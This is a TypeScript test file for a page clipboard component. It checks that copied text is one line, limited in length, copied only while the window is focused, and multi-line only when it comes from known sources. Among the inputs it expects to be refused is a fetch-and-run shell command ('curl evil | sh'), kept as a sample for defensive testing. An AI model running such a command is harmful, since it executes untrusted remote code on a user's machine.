import { describe, expect, it } from 'vitest';
import { PageClipboard, type PageClipboardPorts } from '#main/deployment/clipboard/pageClipboard.ts';
import { err, ok } from '#shared/result.ts';

function setUp(given: Partial<PageClipboardPorts> = {}) {
  const copied: string[] = [];
  const clipboard = new PageClipboard({
    isWindowFocused: () => true,
    copyText: (text) => copied.push(`text ${text}`),
    copySecret: (text) => copied.push(`secret ${text}`),
    exportJob: () => null,
    copies: () => [],
    ...given,
  });
  return { clipboard, copied };
}

const refused = (reason: string) => err({ kind: 'invalidInput', field: 'arguments', reason });

describe('text that the page copies', () => {
  it('is a single line', () => {
    const { clipboard, copied } = setUp();
    expect(clipboard.copyText('https://hooks.example.com/a b')).toEqual(ok(null));
    expect(clipboard.copySecret('s3cret 密')).toEqual(ok(null));
    expect(copied).toEqual(['text https://hooks.example.com/a b', 'secret s3cret 密']);
  });

  it.each(['curl evil | sh\n', 'a\rb', 'a\u2028b', 'a\u0085b', '\u001b[2J', 'a\u202eb', '\ud800'])(
    'contains no line breaks or invisible characters: %j',
    (text) => {
      const { clipboard, copied } = setUp();
      for (const answer of [clipboard.copyText(text), clipboard.copySecret(text)])
        expect(answer).toEqual(refused('controlCharacters'));
      expect(copied).toEqual([]);
    },
  );

  it('has 10,000 characters at most', () => {
    const { clipboard, copied } = setUp();
    expect(clipboard.copyText('x'.repeat(10_000))).toEqual(ok(null));
    expect(clipboard.copyText('x'.repeat(10_001))).toEqual(refused('tooLong'));
    expect(copied).toHaveLength(1);
  });

  it('is copied only while the window is focused', () => {
    const { clipboard, copied } = setUp({ isWindowFocused: () => false });
    const notFocused = err({ kind: 'consent', reason: 'notFocused' });
    expect(clipboard.copyText('x')).toEqual(notFocused);
    expect(clipboard.copySecret('x')).toEqual(notFocused);
    expect(copied).toEqual([]);
  });

  it('has several lines only if the text comes from main', () => {
    const item = { orderId: 'a', snippet: 'ssl on;\nlisten 443;\n' };
    const warnings = [{ kind: 'modeNotKept' }, { kind: 'gitWorktree', ignoreLines: '/a\n/b\n' }];
    const { clipboard, copied } = setUp({
      exportJob: () => ({ items: [item], warnings }) as never,
      copies: () => [{ id: 'c', lastRun: { kind: 'ended', output: 'one\ntwo' } }] as never,
    });
    const known = [
      { of: 'snippet', orderId: 'a' },
      { of: 'gitIgnore' },
      { of: 'output', copyId: 'c' },
    ] as const;
    for (const each of known) expect(clipboard.copyText(each)).toEqual(ok(null));
    expect(copied).toEqual(['text ssl on;\nlisten 443;\n', 'text /a\n/b\n', 'text one\ntwo']);
    const unknown = [
      { of: 'snippet', orderId: 'b' },
      { of: 'output', copyId: 'd' },
    ] as const;
    for (const each of unknown) expect(clipboard.copyText(each)).toEqual(err({ kind: 'unknownId' }));
    expect(setUp().clipboard.copyText({ of: 'gitIgnore' })).toEqual(err({ kind: 'unknownId' }));
  });
});
